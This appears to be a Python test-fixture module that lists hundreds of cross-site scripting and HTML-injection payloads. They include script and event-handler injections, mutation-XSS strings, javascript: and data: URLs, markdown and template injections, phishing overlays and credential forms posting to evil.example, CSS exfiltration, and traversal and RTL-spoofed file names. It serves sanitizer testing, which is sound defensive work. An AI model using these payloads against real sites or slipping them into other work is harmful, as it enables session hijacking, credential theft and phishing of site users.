"""Texts that try to run a script, load something, send something or cover the page, of every kind that we know.

What each would do is seen by a test: it sets `window.hacked`, opens a dialog, or asks something of evil.example.
"""

_RUN = "window.hacked=1"
_EVIL = "https://evil.example"

SCRIPTS = (
    f"<script>{_RUN}</script>",
    f"<ScRiPt type=module>{_RUN}</sCrIpT >",
    f"<script src={_EVIL}/a.js></script>",
    "<script src=//evil.example/a.js async></script>",
    f"<<script>{_RUN}//<</script>",
    f"<scr<script>ipt>{_RUN}</scr</script>ipt>",
    f"<script\x0c>{_RUN}</script>",
    f"<scri\x00pt>{_RUN}</scri\x00pt>",
    f"</script><script>{_RUN}</script>",
    f"</pre></textarea></title></style><script>{_RUN}</script>",
    f"<noscript><p title='</noscript><img src=x onerror={_RUN}>'></noscript>",
    f'<link rel=modulepreload href="{_EVIL}/m.js"><link rel=stylesheet href="{_EVIL}/s.css">',
)
HANDLERS = (
    f"<img src=x onerror={_RUN}>",
    f"<img src=`x` onerror=`{_RUN}`>",
    f"<IMG SRC=x\tONERROR\n=\n'{_RUN}'>",
    f'" onmouseover="{_RUN}" autofocus onfocus="{_RUN}" x="',
    f"' onpointerenter='{_RUN}' tabindex=1 onfocus='{_RUN}' '",
    f"<body onload={_RUN}><body onpageshow={_RUN}>",
    f"<details open ontoggle={_RUN}><summary>x</summary></details>",
    f"<input autofocus onfocus={_RUN}><select autofocus onfocus={_RUN}><textarea autofocus onfocus={_RUN}>",
    f"<video><source onerror={_RUN}></video><audio src=x onerror={_RUN}>",
    f"<marquee onstart={_RUN}>x</marquee>",
    f"<div style=animation:spin onanimationstart={_RUN} onanimationend={_RUN}>x</div>",
    f"<xss onclick={_RUN} style=position:fixed;inset:0;z-index:99999>x</xss>",
    f"<svg/onload={_RUN}>",
)
FOREIGN = (
    f"<svg><script>{_RUN}</script></svg>",
    f"<svg><a xlink:href='javascript:{_RUN}'><text y=20>x</text></a></svg>",
    f"<svg><use href='data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg onload={_RUN}/>#x'></svg>",
    f"<svg><animate onbegin={_RUN} attributeName=x dur=1s></svg>",
    "<svg><foreignObject><iframe srcdoc='<script>parent.hacked=1</script>'></foreignObject></svg>",
    f"<math><maction actiontype=statusline xlink:href=javascript:{_RUN}>x</maction></math>",
    f"<math><mtext><table><mglyph><style><!--</style><img title='--><img src=x onerror={_RUN}>'>",
    f"<form><math><mtext></form><form><mglyph><style></math><img src=x onerror={_RUN}>",
    f"<template><img src=x onerror={_RUN}></template><template shadowrootmode=open><script>{_RUN}</script></template>",
)
FRAMES = (
    f"<iframe src=javascript:parent.{_RUN}></iframe>",
    "<iframe srcdoc='&lt;script&gt;parent.hacked=1&lt;/script&gt;'></iframe>",
    f"<object data=javascript:{_RUN}></object><embed src=javascript:{_RUN}>",
    f"<object data={_EVIL}/o.swf></object>",
    f"<frameset onload={_RUN}><frame src={_EVIL}></frameset><portal src={_EVIL}>",
    f"<meta http-equiv=refresh content='0;url={_EVIL}/'>",
    f"<base href={_EVIL}/>",
    f"<form action={_EVIL}><input name=q value=x><button>Ask</button></form>",
    f"<button form=f formaction=javascript:{_RUN}>Ask</button><isindex action=javascript:{_RUN}>",
)
STYLES = (
    f"<style>@import '{_EVIL}/s.css'; body {{ display: none }}</style>",
    f'<div style="background:url({_EVIL}/b.png);width:expression({_RUN})">x</div>',
    "<div style='position:fixed;inset:0;z-index:99999;background:#fff'>Your session is over: log in</div>",
    f"<p style=behavior:url({_EVIL}/x.htc);-moz-binding:url({_EVIL}/x.xml#x)>x</p>",
)
ADDRESSES = (
    f"<a href=javascript:{_RUN}>x</a>",
    f"<a href=' \x01jav&#x09;asc\nript&colon;{_RUN}'>x</a>",
    f"<a href=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;{_RUN}>x</a>",
    "<a href='data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=='>x</a>",
    f"<a href=VBScript:msgbox(1) ping={_EVIL}>x</a>",
    f"<area shape=default href=javascript:{_RUN}><map name=m>",
    '<a class="do" role="button" href="#do:shelf:%7B%22do%22%3A%22really%22%2C%22article%22%3A%22x%22%7D">Remove</a>',
)
MARKDOWN = (
    f"![pixel]({_EVIL}/p.png) ![x][pixel]",
    f"[click](javascript:{_RUN}) [click](<java script:{_RUN}>)",
    f"<{_EVIL}/auto> <javascript:{_RUN}> {_EVIL}/bare www.evil.example",
    f"[x]: {_EVIL}/p.png \"x' onerror='{_RUN}\"",
    f"# heading\n\n```mermaid\ngraph TD; A-->B\n```\n\n~~~html\n<img src=x onerror={_RUN}>\n~~~",
    f"| a | b |\n|---|---|\n| <img src=x onerror={_RUN}> | [^1] |\n\n[^1]: {_EVIL}",
    f"`</code><img src=x onerror={_RUN}>` **<b onclick={_RUN}>** <!-- --><!--><img src=x onerror={_RUN}>-->",
)
OTHERS = (
    f"<![CDATA[<img src=x onerror={_RUN}>]]> <?xml version='1.0'?><!DOCTYPE x [<!ENTITY x SYSTEM '{_EVIL}'>]> &x;",
    f"&lt;img src=x onerror={_RUN}&gt; &amp;lt;script&amp;gt; %3Cscript%3E{_RUN}%3C/script%3E \\x3cscript\\x3e",
    f"${{{_RUN}}} {{{{constructor.constructor('{_RUN}')()}}}} <%= {_RUN} %> #{{{_RUN}}} {{@html x}} [[x]]",
    f"$$\\href{{javascript:{_RUN}}}{{x}}$$ \\(\\url{{{_EVIL}}}\\) $\\htmlData{{x=1}}{{\\includegraphics{{{_EVIL}}}}}$",
    "<a id=location href=x><form id=chat name=attributes><img name=getElementById><input id=question name=body></form>",
    "<div id=latest class='gradio-container dark'><p id=reader><p id=peek><mark id=quote>x</mark></div>",
    "\u202egnp.exe\u202c \u2066x \u2067y \u200fz\u2028line\u2029paragraph\x85next\x0bvt\ufeff\u200b",
    '{"name":"__proto__","__proto__":{"hacked":1},"do":"open"}]}\'"`,\\u0022</pre><script>window.hacked=1</script>',
    f"+ADw-script+AD4-{_RUN}+ADw-/script+AD4- \u02bcimg\uff1cscript\uff1e{_RUN}\uff1c/script\uff1e",
    f"<p><title><textarea><xmp><plaintext><listing><noembed><img src=x onerror={_RUN}>",
)
# Handlers that run without anybody doing anything, or at the least touch, each on the element that has it.
EVENTS = (
    *(
        f"<{tag} {more} on{event}={_RUN}>"
        for tag, more, event in (
            ("input", "autofocus", "focusin"),
            ("button", "autofocus", "focus"),
            ("a", "id=x tabindex=1 autofocus", "focus"),
            ("keygen", "autofocus", "focus"),
            ("div", "contenteditable autofocus", "focus"),
            ("iframe", "src=about:blank", "load"),
            ("link", "rel=stylesheet href=x", "error"),
            ("style", "", "load"),
            ("script", "src=x", "error"),
            ("image", "src=x", "error"),
            ("img", "srcset=x", "error"),
            ("picture><img", "src=x", "error"),
            ("video", "src=x autoplay", "error"),
            ("video poster=x", "controls", "loadstart"),
            ("audio", "src=data:, autoplay", "canplay"),
            ("track", "src=x default", "error"),
            ("object", "data=x", "error"),
            ("embed", "src=x", "load"),
            ("svg", "", "load"),
            ("svg><image", "href=x", "error"),
            ("svg><set", "attributeName=x dur=1s", "begin"),
            ("svg><animatetransform", "attributeName=transform dur=1s", "end"),
            ("svg><discard", "", "begin"),
            ("details", "open", "toggle"),
            ("dialog", "open", "close"),
            ("p popover id=q><button popovertarget=q", "", "beforetoggle"),
            ("xss", "style=transition:1s", "transitionend"),
            ("xss", "style=content-visibility:auto", "contentvisibilityautostatechange"),
            ("xss", "style=overflow:auto;height:1px", "scrollend"),
            ("bdo", "", "pointerrawupdate"),
            ("table background=x", "", "wheel"),
            ("body", "", "hashchange"),
            ("body", "", "message"),
            ("body", "", "unhandledrejection"),
            ("form", "", "formdata"),
            ("search", "", "beforeinput"),
            ("select", "", "auxclick"),
            ("textarea", "autofocus", "selectionchange"),
            ("marquee", "loop=1 width=0", "finish"),
            ("meter", "", "mouseenter"),
        )
    ),
)
# What an earlier reading turns into something else: entities, comments, wrong nesting, names that a filter may know.
MUTATIONS = (
    f"<a title='</p><img src=x onerror={_RUN}>'><p>",
    f"<svg></p><style><a title='</style><img src=x onerror={_RUN}>'>",
    f"<math><annotation-xml encoding=text/html><img src=x onerror={_RUN}></annotation-xml></math>",
    f"<svg><desc><noembed><a id='</noembed><img src=x onerror={_RUN}>'></desc></svg>",
    f"<table><caption><svg><title><table><img src=x onerror={_RUN}></table></title></svg></caption></table>",
    f"<select><template><select><img src=x onerror={_RUN}></select></template></select>",
    f"<!--><svg onload={_RUN}>--> <!--!><svg onload={_RUN}>--!>",
    f"<?php echo 1; ?><svg onload={_RUN}> <% <svg onload={_RUN}> %>",
    f"<img alt='`><img src=x onerror={_RUN}>`' title=\"'><svg onload={_RUN}>\">",
    f"<xmp><p title='</xmp><svg onload={_RUN}>'></xmp>",
    f"<iframe><p title='</iframe><svg onload={_RUN}>'></iframe>",
    f"<a href=\"#\" title='x'onclick='{_RUN}'>x</a><img/src='x'/onerror='{_RUN}'/>",
    f"<img src=x onerror&#61;{_RUN}> <img src=x onerror\n=\r{_RUN}> <img\u00a0src=x onerror={_RUN}>",
    f"&#x3c;svg onload={_RUN}&#x3e; &LT;svg onload={_RUN}&GT; &lt;/textarea&gt;&#60svg onload={_RUN}&#62",
    f"<\u017fvg onload={_RUN}> <\u017fcript>{_RUN}</\u017fcript> <\u0130mg src=x onerror={_RUN}>",
    f"\u2028<svg onload={_RUN}>\u2029 \ufeff<svg onload={_RUN}> <\u200bsvg onload={_RUN}>",
    f"</div></div></main></body></html><svg onload={_RUN}>",
    f"<article class=card><bdi><q><li><dd><img src=x onerror={_RUN}></dd></li></q></bdi></article>",
)
# What needs no script: other people's frames, fields, pictures and rules, drawn over or beside our own.
LURES = (
    f"<form id=ask action={_EVIL}><label>Key <input type=password name=key></label><button>Sign in</button></form>",
    f"<input form=ask formaction={_EVIL} type=image src={_EVIL}/i.png>",
    f"<dialog open><form method=post action={_EVIL}><input autofocus name=password></form></dialog>",
    "<div popover=manual id=over style='inset:0;display:block;position:fixed'>This page has moved</div>",
    "<p style='position:absolute;top:0;left:0;width:100vw;height:100vh;opacity:0.01'>press anywhere</p>",
    f"<style>input[value^=a]{{background:url({_EVIL}/a)}} @font-face{{font-family:x;src:url({_EVIL}/f)}}</style>",
    f"<link rel=prefetch href={_EVIL}/p><link rel=preconnect href={_EVIL}><link rel=dns-prefetch href={_EVIL}>",
    f"<link rel=icon href={_EVIL}/favicon.ico><link rel=manifest href={_EVIL}/m.json>",
    f"<script type=speculationrules>{{'prefetch':[{{'urls':['{_EVIL}']}}]}}</script>",
    f"<script type=importmap>{{'imports':{{'x':'{_EVIL}/x.js'}}}}</script>",
    f"<img src={_EVIL}/q.png?><img srcset='{_EVIL}/s.png 2x'><video poster={_EVIL}/v.png></video>",
    f"<img src='{_EVIL}/dangling?",
    f"<a href={_EVIL} target=chat ping={_EVIL}/ping attributionsrc={_EVIL}>read on</a>",
    f"<a href={_EVIL}\\@127.0.0.1/>x</a> <a href=//evil.example>x</a> <a href=\\\\evil.example>x</a>",
    "<meta http-equiv=Content-Security-Policy content=''><meta http-equiv=set-cookie content='crosscheck=x'>",
    "<meta name=referrer content=unsafe-url><meta charset=utf-7><meta name=viewport content='width=9999'>",
    f"<fencedframe src={_EVIL}></fencedframe><webview src={_EVIL}></webview><applet code={_EVIL}></applet>",
    f"<bgsound src={_EVIL}/b><layer src={_EVIL}/l></layer><ilayer src={_EVIL}/i></ilayer>",
    "<h1 style='font-size:9999px'>x</h1><pre style='width:99999px'>x</pre><hr style='border-width:999px'>",
)
# Markdown, formulas and templates, as a component of the page might read them.
NOTATIONS = (
    f"[a](javascript&colon;{_RUN}) [b](javascript&#58;{_RUN}) [c](JaVaScRiPt:{_RUN}) [d](\x01javascript:{_RUN})",
    f"[x](data:text/html;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+) [y](vbscript:x) [z]({_EVIL} 'x\"onmouseover={_RUN} ')",
    f"![x]({_EVIL}/i.png 'a\"onerror=\"{_RUN}') ![y](javascript:{_RUN}) ![z](data:image/svg+xml,<svg onload={_RUN}>)",
    f"[ref]: javascript:{_RUN}\n[other]: <{_EVIL}/x> (title)\n\n[ref] [other][] ![other]",
    f"<javascript:{_RUN}> <data:text/html,x> <mailto:a@evil.example> <img:x onerror={_RUN}>",
    f"> <svg onload={_RUN}>\n\n- <svg onload={_RUN}>\n\n1. <svg onload={_RUN}>\n\n    <svg onload={_RUN}>",
    f"```html onload={_RUN}\n</code></pre><svg onload={_RUN}>\n```\n\n~~~\n<svg onload={_RUN}>",
    f"<details><summary>\n\n**x**\n\n<svg onload={_RUN}>\n\n</summary></details>",
    f"\\<svg onload={_RUN}\\> \\[x\\](javascript:{_RUN}) *<svg onload={_RUN}>* ~~<svg onload={_RUN}>~~",
    "{{7*7}} ${7*7} #{7*7} <%= 7*7 %> {% raw %} {{$on.constructor('window.hacked=1')()}} [[${7*7}]] @(7*7)",
    f"$\\href{{javascript:{_RUN}}}{{x}}$ $$\\unicode{{<svg onload={_RUN}>}}$$ \\input{{/etc/passwd}}",
    f":::html\n<svg onload={_RUN}>\n::: [x]{{onclick={_RUN}}} ==x== ^[<svg onload={_RUN}>] [[{_EVIL}|x]]",
)
PAYLOADS = (
    *(*SCRIPTS, *HANDLERS, *FOREIGN, *FRAMES, *STYLES, *ADDRESSES, *MARKDOWN, *OTHERS),
    *(*EVENTS, *MUTATIONS, *LURES, *NOTATIONS),
)
URLS = (
    f"javascript:{_RUN}",
    f" \tJaVaScRiPt:{_RUN}",
    f"java\nscript:{_RUN}",
    f"data:text/html,<script>{_RUN}</script>",
    "vbscript:msgbox(1)",
    f"https:javascript:{_RUN}",
    "//evil.example/x",
    f'{_EVIL}/?"><script>{_RUN}</script>',
    f"{_EVIL}/' onmouseover='{_RUN}",
    f"{_EVIL}\\@example.org/",
    "file:/etc/passwd",
    "blob:https://evil.example/x",
)
FILE_NAMES = (
    f"<img src=x onerror={_RUN}>.txt",
    f'"><svg onload={_RUN}>.exe',
    "..\\..\\etc\\passwd.exe",
    "\u202etxt.exe",
    f"'-{_RUN}-' onfocus={_RUN} .exe",
    "${7*7}{{7*7}}![x](https:evil.example)<b id=chat>.exe",
)
